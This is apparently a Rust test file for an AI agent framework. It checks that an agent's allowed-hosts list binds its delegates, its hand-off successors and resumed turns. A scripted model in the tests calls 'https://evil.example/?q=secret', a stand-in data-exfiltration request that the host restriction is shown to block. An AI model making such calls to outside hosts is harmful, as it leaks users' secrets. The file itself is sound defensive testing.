//! The `hosts` of an agent bind all that work for it.

use helve::agent::session::{MemoryStore, Posting, Sessions};
use helve::agents::{AgentSpec, SessionAuthority};
use helve::capability::{BackendError, Grants, HttpBackend, HttpRequest, HttpResponse, HttpScope};
use helve::permission::{DeferAll, Mode, Policy};

use super::support::{address, begin, resume, say, session};
use super::*;

/// A network that answers everything, and notes what it was asked for.
#[derive(Debug, Default)]
struct Network(Mutex<Vec<String>>);

impl HttpBackend for Network {
    fn send<'a>(
        &'a self,
        request: HttpRequest,
        _: HttpScope<'a>,
    ) -> BoxFuture<'a, Result<HttpResponse, BackendError>> {
        self.0.lock().unwrap().push(request.url);
        async { Ok(HttpResponse::new(200, "A page.")) }.boxed()
    }
}

/// Fetches a page.
#[tool(read_only, requires(net))]
async fn fetch(
    /// Its address.
    url: &str,
    cx: &ToolContext,
) -> Result<String, ToolError> {
    let sent = cx.http().send(HttpRequest::new("GET", url)).await?;
    Ok(String::from_utf8_lossy(&sent.body).into_owned())
}

fn fetching() -> ScriptedModel {
    ["https://docs.example/a", "https://evil.example/?q=secret"]
        .into_iter()
        .fold(ScriptedModel::new(), |model, url| {
            model.call("fetch", json!({ "url": url }))
        })
        .say("Read.")
}

/// Returns an agent of a file with these hosts.
fn named(name: &str, model: ScriptedModel, hosts: Option<Vec<String>>) -> Agent {
    let tools = toolset![delete, fetch];
    let (policy, bounds) = (Policy::new(Mode::Default), Bounds::new(20));
    let mut spec = AgentSpec::new(name, "d");
    spec.hosts.allow = hosts;
    let resolved = spec.resolve(&SessionAuthority {
        tools: &tools,
        policy: &policy,
        bounds: &bounds,
    });
    resolved.apply_to(Agent::new(name, model), &tools)
}

fn docs(model: ScriptedModel) -> Agent {
    named("docs", model, Some(vec!["docs.example".to_owned()]))
}

fn context(network: &Arc<Network>) -> ToolContext {
    let grants = Grants {
        http: Some(network.clone()),
        ..Grants::default()
    };
    ToolContext::builder().grants(grants).build()
}

#[tokio::test]
async fn they_bind_the_agent_its_delegates_and_its_successor() {
    let task = json!({ "agent": "helper", "prompt": "Fetch." });
    let hand_off = json!({ "to": "helper", "brief": "Fetch." });
    let helper = || named("helper", fetching(), None);
    for agent in [
        docs(fetching()),
        docs(ScriptedModel::new().call("task", task).say("Done.")).delegate(helper()),
        docs(ScriptedModel::new().call("hand_off", hand_off)).hand_off(helper()),
    ] {
        let network = Arc::<Network>::default();
        let context = context(&network);
        let prompt = vec![Message::user("go")];
        agent.run(prompt, &context, |_| {}).await;
        assert_eq!(*network.0.lock().unwrap(), ["https://docs.example/a"]);
    }
    // The session itself reaches both.
    let network = Arc::<Network>::default();
    let context = context(&network);
    named("free", fetching(), None)
        .run(vec![Message::user("go")], &context, |_| {})
        .await;
    assert_eq!(network.0.lock().unwrap().len(), 2);
}

#[tokio::test]
async fn a_turn_that_is_gone_on_with_keeps_those_with_which_it_began() {
    let network = Arc::<Network>::default();
    let context = context(&network);
    let sessions = Sessions::new(MemoryStore::new());
    let mut conversation = begin(&sessions).await;
    let model = ScriptedModel::new().call("delete", json!({ "path": "a" }));
    say(&docs(model).approver(DeferAll), &mut conversation, &context).await;
    let answer = Posting::answer(address("t1/1.0"), Decision::allow_once());
    sessions.post(&session(), answer).await.unwrap();
    // The file was changed in between.
    let docs = named("docs", fetching(), None).approver(DeferAll);
    let report = resume(&docs, &mut conversation, &context).await;
    assert_eq!(report.text(), "Read.");
    assert_eq!(*network.0.lock().unwrap(), ["https://docs.example/a"]);
}
